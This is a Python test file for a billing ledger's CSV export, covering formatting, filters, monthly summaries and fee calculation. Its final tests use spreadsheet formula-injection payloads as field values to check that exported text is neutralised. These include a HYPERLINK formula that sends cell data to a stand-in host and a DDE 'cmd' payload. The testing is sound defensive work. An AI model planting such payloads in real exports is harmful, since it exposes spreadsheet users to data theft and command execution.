"""CSV export and billing summary."""

from __future__ import annotations

import csv
import io
import itertools
from datetime import UTC, datetime, timedelta
from decimal import Decimal
from typing import Any

import pytest

from pricing.ledger import (
    CSV_COLUMNS,
    SUMMARY_COLUMNS,
    LedgerRow,
    LedgerStore,
    aiter_csv,
    iter_csv,
    summary,
    summary_csv,
    write_csv,
)
from pricing.ledger.summary import periods
from tests.pricing.ledger.ledger_testkit import BASE_TS, make_row

NOV = datetime(2026, 11, 1, tzinfo=UTC)
DEC = datetime(2026, 12, 1, tzinfo=UTC)


def _parse(data: bytes) -> list[dict[str, str]]:
    text = data.decode("utf-8")
    assert not text.startswith("\ufeff")
    return list(csv.DictReader(io.StringIO(text, newline="")))


def test_export_is_rfc4180_with_exact_money(store: LedgerStore) -> None:
    awkward = 'agent "x", line\nbreak — ünïcode'
    rows = [make_row(i) for i in range(3)] + [make_row(3, agent=awkward, overhead_cost=7)]
    store.write_batch(rows)
    data = b"".join(iter_csv(store, start=NOV, end=DEC))
    assert data.split(b"\r\n", 1)[0].decode() == ",".join(CSV_COLUMNS)
    parsed = _parse(data)
    assert len(parsed) == 4
    last = parsed[3]
    assert last["agent"] == awkward
    assert last["ts"] == "2026-11-03T12:00:03.000003Z"
    assert Decimal(last["cost_usd"]) * 1_000_000 == rows[3].cost
    assert last["overhead_cost_usd"] == "0.000007"
    assert last["price_cache_write"] == "3.125"
    assert last["error_type"] == "" and last["seq"] == "4"


def test_export_filters_by_tenant_and_half_open_range(store: LedgerStore) -> None:
    store.write_batch([make_row(i, tenant="a" if i % 2 else "b") for i in range(6)])
    start = make_row(1).ts
    end = make_row(5).ts
    parsed = _parse(b"".join(iter_csv(store, start=start, end=end, tenant="a")))
    assert [r["request_id"] for r in parsed] == ["req-a-1", "req-a-3"]
    out = io.BytesIO()
    write_csv(store, out, start=start, end=end)
    assert len(_parse(out.getvalue())) == 4


@pytest.mark.anyio
async def test_async_export_streams_the_same_bytes(store: LedgerStore) -> None:
    store.write_batch([make_row(i) for i in range(1200)])
    chunks = [c async for c in aiter_csv(store, start=NOV, end=DEC)]
    assert len(chunks) > 1
    assert b"".join(chunks) == b"".join(iter_csv(store, start=NOV, end=DEC))


def test_summary_per_tenant_and_month_with_fee(store: LedgerStore) -> None:
    rows = [
        make_row(1, tenant="a"),
        make_row(2, tenant="a", ts=datetime(2026, 12, 5, tzinfo=UTC)),
        make_row(3, tenant="b"),
        # Costs more than its baseline: offsets the tenant's other savings.
        make_row(
            4, tenant="b", baseline_price_output=Decimal("1"), baseline_price_input=Decimal("0.1")
        ),
        make_row(5, tenant="b", price_source="unknown"),
    ]
    store.write_batch(rows)
    result = summary(
        store, start=NOV, end=datetime(2027, 1, 1, tzinfo=UTC), fee_rate=Decimal("0.1")
    )
    keyed = {(r.tenant, r.period_start.month): r for r in result}
    assert set(keyed) == {("a", 11), ("a", 12), ("b", 11)}
    b = keyed[("b", 11)]
    net = (rows[2].savings or 0) + (rows[3].savings or 0)
    assert (rows[3].savings or 0) < 0 and b.savings == net
    assert (b.requests, b.priced_requests, b.unpriced_requests) == (3, 2, 1)
    assert b.fee == int((Decimal(net) / 10).to_integral_value())
    assert keyed[("a", 12)].period_end == datetime(2027, 1, 1, tzinfo=UTC)
    parsed = _parse(b"".join(summary_csv(result)))
    assert list(parsed[0]) == list(SUMMARY_COLUMNS) and len(parsed) == 3
    assert Decimal(parsed[2]["fee_usd"]) * 1_000_000 == b.fee


def test_summary_fee_is_zero_when_net_savings_are_negative(store: LedgerStore) -> None:
    store.write_batch(
        [make_row(1, baseline_price_output=Decimal("0"), baseline_price_input=Decimal("0"))]
    )
    (row,) = summary(store, start=NOV, end=DEC, fee_rate=Decimal("0.1"), period="all")
    assert row.savings < 0 and row.fee == 0


def test_periods_cut_at_month_boundaries() -> None:
    start = datetime(2026, 11, 15, tzinfo=UTC)
    end = datetime(2027, 2, 3, tzinfo=UTC)
    cuts = periods(start, end, "month")
    assert [p[0].month for p in cuts] == [11, 12, 1, 2]
    assert cuts[0][0] == start and cuts[-1][1] == end
    assert all(a[1] == b[0] for a, b in itertools.pairwise(cuts))
    assert periods(start, end, "all") == [(start, end)]
    assert periods(end, start, "month") == []
    assert BASE_TS + timedelta(days=1) < DEC


def test_worked_fee_example_of_the_documentation(store: LedgerStore) -> None:
    cheap = {"price_input": Decimal("0.15"), "price_output": Decimal("0.60")}
    pricey = {"price_input": Decimal("5"), "price_output": Decimal("15")}
    gpt4o = {"baseline_price_input": Decimal("2.50"), "baseline_price_output": Decimal("10")}
    zero = {"cached_prompt_tokens": 0, "baseline_cached_prompt_tokens": 0}

    def row(i: int, tokens: tuple[int, int], base: tuple[int, int], **kw: Any) -> LedgerRow:
        return make_row(
            i,
            prompt_tokens=tokens[0],
            completion_tokens=tokens[1],
            baseline_prompt_tokens=base[0],
            baseline_completion_tokens=base[1],
            **{**zero, **gpt4o, **kw},
        )

    rows = [
        row(1, (10_000, 1_000), (10_000, 1_000), **cheap),
        row(2, (0, 0), (1_200, 300), overhead_cost=13, cache_status="semantic", **cheap),
        row(3, (2_000, 500), (2_000, 500), **pricey),
        row(4, (2_000, 500), (2_000, 500), price_source="unknown"),
    ]
    assert [(r.cost, r.baseline_cost, r.savings) for r in rows] == [
        (2_100, 35_000, 32_900),
        (13, 6_000, 5_987),
        (17_500, 10_000, -7_500),
        (None, 10_000, None),
    ]
    store.write_batch(rows)
    (result,) = summary(store, start=NOV, end=DEC, fee_rate=Decimal("0.10"))
    line = _parse(b"".join(summary_csv([result])))[0]
    assert line == {
        "tenant": "acme",
        "period_start": "2026-11-01T00:00:00.000000Z",
        "period_end": "2026-12-01T00:00:00.000000Z",
        "requests": "4",
        "priced_requests": "3",
        "unpriced_requests": "1",
        "cost_usd": "0.019613",
        "baseline_cost_usd": "0.051000",
        "savings_usd": "0.031387",
        "fee_rate": "0.10",
        "fee_usd": "0.003139",
    }


FORMULAS = {
    "agent": '=HYPERLINK("http://x.example/?"&A1,"click")',
    "workflow": "+1+cmd|' /C calc'!A0",
    "step": "-2+3",
    "run": "@SUM(1,1)",
    "requested_model": "\tgpt",
    "error_type": "\r=1",
}


def test_a_formula_in_any_text_field_is_exported_as_text(store: LedgerStore) -> None:
    losing = make_row(
        1,
        tenant="=evil()",
        baseline_price_output=Decimal("0"),
        baseline_price_input=Decimal("0"),
        **FORMULAS,
    )
    store.write_batch([losing])
    [row] = _parse(b"".join(iter_csv(store, start=NOV, end=DEC)))
    for name, text in {**FORMULAS, "tenant": "=evil()"}.items():
        assert row[name] == "'" + text, name
    # Money stays numeric, the negative savings included: no quote before its sign.
    assert losing.savings is not None and losing.savings < 0
    assert row["savings_usd"].startswith("-")
    assert Decimal(row["savings_usd"]) * 1_000_000 == losing.savings
    assert Decimal(row["cost_usd"]) * 1_000_000 == losing.cost
    assert row["prompt_tokens"] == str(losing.prompt_tokens)
    [total] = _parse(
        b"".join(summary_csv(summary(store, start=NOV, end=DEC, fee_rate=Decimal("0.1"))))
    )
    assert total["tenant"] == "'=evil()"
    assert Decimal(total["savings_usd"]) * 1_000_000 == losing.savings


def test_ordinary_text_is_exported_unchanged(store: LedgerStore) -> None:
    store.write_batch([make_row(1, agent="support-bot", step="a=b", run="x-1")])
    [row] = _parse(b"".join(iter_csv(store, start=NOV, end=DEC)))
    assert (row["agent"], row["step"], row["run"]) == ("support-bot", "a=b", "x-1")
